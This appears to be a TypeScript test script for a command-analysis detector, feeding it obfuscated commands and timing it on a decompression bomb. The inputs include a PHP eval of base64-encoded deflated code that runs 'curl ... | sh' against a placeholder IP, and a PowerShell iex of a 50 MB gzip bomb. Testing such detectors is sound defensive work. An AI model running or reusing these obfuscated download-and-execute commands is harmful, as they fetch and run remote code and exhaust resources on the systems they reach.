import { zlibInflate } from '../src/adapters/analysis/inflate';
import { analyzeCommand } from '../src/domain/command-analysis';
import { deflateRawSync, gzipSync } from 'node:zlib';
const inner = Buffer.from('system("curl -s http://203.0.113.75/x | sh");');
console.log(JSON.stringify(analyzeCommand(`php -r 'eval(gzinflate(base64_decode("${deflateRawSync(inner).toString('base64')}")));'`, { inflate: zlibInflate }), null, 1));
const bomb = gzipSync(Buffer.alloc(50 * 1024 * 1024, 65));
const s = performance.now(); const r = analyzeCommand(`powershell -c "$d=[IO.Compression.GzipStream]; iex ([Convert]::FromBase64String('${bomb.toString('base64')}'))"`, { inflate: zlibInflate }); console.log('bomb', (performance.now()-s).toFixed(1), r.findings.map(f=>f.id+'@'+f.layer));
